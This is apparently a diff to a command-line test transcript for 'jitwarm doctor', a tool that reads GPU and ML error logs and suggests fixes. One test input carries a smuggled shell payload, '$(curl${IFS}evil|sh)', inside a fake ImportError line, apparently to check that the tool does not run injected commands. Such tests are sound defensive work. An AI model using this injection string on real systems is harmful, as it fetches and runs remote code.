@@ -98,10 +98,10 @@ To do jitwarm scan PATH
 $ echo 'FlashAttention only supports Ampere GPUs or newer' | SHELL=/bin/csh jitwarm doctor --log -
 ? 1
 [bad] Line 1: FlashAttention has no code for this GPU.
-set*VLLM_ATTENTION_BACKEND*XFORMERS*
+To do set*VLLM_ATTENTION_BACKEND*XFORMERS*
 $ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared object file' | jitwarm doctor --log -
 ? 1
-/sbin/ldconfig -p | grep libcu
+To do /sbin/ldconfig -p | grep libcu
 $ jitwarm doctor --json --log a.log
 ? 1
 .errors.1.line = 3
